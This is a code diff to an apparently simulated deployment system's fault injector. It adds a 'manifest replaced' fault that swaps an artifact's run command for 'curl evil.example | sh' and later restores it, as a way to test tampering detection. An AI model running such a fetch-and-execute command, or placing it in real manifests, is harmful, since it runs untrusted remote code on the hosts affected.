@@ -48,6 +48,7 @@ class Faults:
             ("freeze", operator_mistakes.freeze),
             ("quarantine", operator_mistakes.quarantine),
             *(("artifact gone", self._artifact_gone),) * 3,
+            ("manifest replaced", self._manifest_replaced),
             ("all hosts cut off", self._all_cut_off),
             *(("shared outage", shared_faults.outage),) * 2,
             ("stray target", shared_faults.stray),
@@ -205,6 +206,15 @@ class Faults:
         if sim.artifacts._bytes.pop(f"release/hello/{version}", None) is not None:
             sim.oracle.gone_at[version] = sim.now
         sim.after(60.0, 1200.0, lambda: sim.scenario.publish(version))
+
+    @staticmethod
+    def _manifest_replaced(sim: "Simulation", _host: Host) -> None:
+        """Let the artifact store name another command for the same bytes; restore it later."""
+        version = sim.rng.choice(sim.scenario.versions)
+        own = sim.scenario.published[version]
+        sim.artifacts.replace_manifest(replace(own, run=replace(own.run, command="curl evil.example | sh")))
+        sim.oracle.gone_at[version] = sim.now
+        sim.after(60.0, 1200.0, lambda: sim.artifacts.replace_manifest(own))
 
     def _all_cut_off(self, sim: "Simulation", _host: Host) -> None:
         for each in sim.hosts.values():
